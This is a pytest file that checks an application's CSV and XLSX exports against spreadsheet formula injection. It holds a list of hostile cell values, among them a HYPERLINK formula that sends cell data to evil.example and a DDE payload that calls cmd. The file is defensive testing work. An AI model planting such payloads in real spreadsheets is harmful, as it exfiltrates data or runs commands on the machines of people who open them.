"""No CSV or XLSX asocia writes carries a formula, whatever the stored text (OWASP CSV
injection); the stored values are unchanged."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

import asocia
from asocia.db.models import Cooperative
from asocia.diagnosis.loader import load_instruments
from asocia.diagnosis.queries import portfolio_csv, portfolio_xlsx
from asocia.diagnosis.xlsform import CooperativeChoice, build_xlsform, xlsform_bytes
from asocia.spreadsheets import is_formula_like, safe_cell
from tests.conftest import Web

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A3)",
    "\t=1+1",
    "\r=1+1",
]


def assert_csv_safe(text: str) -> None:
    for row in csv.reader(io.StringIO(text, newline="")):
        for cell in row:
            assert not is_formula_like(cell), cell


def assert_xlsx_safe(data: bytes) -> list[str]:
    """No formula element in any sheet; returns every text cell's value."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[\s>]", archive.read(name)), name
    workbook = load_workbook(io.BytesIO(data))
    texts = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", cell.value
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _hostile_cooperatives(web: Web) -> None:
    for i, name in enumerate(HOSTILE):
        web.make_cooperative(legal_name=name, tax_id=f"65.000.{i:03d}-{i}", region_code=16)


def test_safe_cell_rules() -> None:
    for value in HOSTILE[:5]:
        assert safe_cell(value) == "'" + value
    assert safe_cell("\r=1+1") == "'\n=1+1"
    assert safe_cell("Cooperativa\r=1+1") == "Cooperativa\n=1+1"
    for value in ["Cooperativa", "-12", "+5,3", "-0.5", 42, -3, None, "1e5", ""]:
        assert safe_cell(value) == value


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("public", [False, True])
def test_registry_export(web: Web, fmt: str, public: bool) -> None:
    _hostile_cooperatives(web)
    analyst = web.login_as("analyst")
    response = analyst.get("/registry/export", params={"format": fmt, "public": public})
    assert response.status_code == 200
    if fmt == "csv":
        assert_csv_safe(response.text)
        for value in HOSTILE[:5]:
            assert ("'" + value).strip() in response.text.replace('""', '"')
    else:
        texts = assert_xlsx_safe(response.content)
        for value in HOSTILE[:4]:  # (XML turns a CR into a line feed)
            assert value in texts  # the value itself, typed as text
    with web.db.session() as session:
        stored = {c.legal_name for c in session.query(Cooperative)}
    assert set(HOSTILE) <= stored


def test_xlsform_download_and_cooperative_csv(web: Web) -> None:
    _hostile_cooperatives(web)
    field = web.login_as("field")
    response = field.get("/diagnosis/xlsform")
    assert response.status_code == 200
    texts = assert_xlsx_safe(response.content)
    assert HOSTILE[0] in texts
    form = build_xlsform(
        next(iter(load_instruments().values())),
        cooperatives=[CooperativeChoice("65.000.001-1", HOSTILE[0])],
        cooperative_file="cooperatives.csv",
    )
    assert form.cooperative_csv is not None
    assert_csv_safe(form.cooperative_csv)
    assert_xlsx_safe(xlsform_bytes(form))


def test_portfolio_exports(tmp_path: Path) -> None:
    rows: list[dict[str, object]] = [
        {"region_code": 16, "legal_class": value, "category": value, "category_label": value}
        for value in HOSTILE
    ]
    assert_csv_safe(portfolio_csv(rows))
    out = io.BytesIO()
    portfolio_xlsx(rows, out)
    assert set(HOSTILE[:5]) <= set(assert_xlsx_safe(out.getvalue()))


def test_stats_csv_downloads(web: Web) -> None:
    from types import SimpleNamespace

    from asocia.stats.crosstab import to_csv

    records = [
        {"region": HOSTILE[0], "cooperatives": 5, "status": ""},
        {"region": "total", "cooperatives": 5, "status": ""},
    ]
    table = SimpleNamespace(
        rows="region", columns=None, measure="cooperatives", records=lambda: records
    )
    text = to_csv(table, {"region": {"total": HOSTILE[1]}})  # type: ignore[arg-type]
    assert_csv_safe(text)
    assert "'" + HOSTILE[1] in text
    web.make_cooperative(legal_name="Cooperativa", region_code=16)
    response = web.client.get("/stats/data/summary.csv")
    assert response.status_code == 200
    assert_csv_safe(response.text)


WRITERS = re.compile(r"csv\.(writer|DictWriter)\(|Workbook\(")
# Files that imitate another system's export byte for byte (ODK Central, Kobo, a registry
# office), read back by asocia's own importers; their synthetic values hold no formulas.
IMITATIONS = {"diagnosis/sample_exports.py", "registry/synthetic_files.py", "cli/demo.py"}


def test_every_writer_goes_through_spreadsheets() -> None:
    """A new CSV/XLSX writer must use asocia.spreadsheets (or be listed here with a reason)."""
    root = Path(asocia.__file__).parent
    unguarded = []
    for path in root.rglob("*.py"):
        relative = path.relative_to(root).as_posix()
        text = path.read_text("utf-8")
        writes = WRITERS.search(text) and relative not in IMITATIONS
        if writes and "asocia.spreadsheets import" not in text:
            unguarded.append(relative)
    assert not unguarded, f"CSV/XLSX writers without asocia.spreadsheets: {unguarded}"
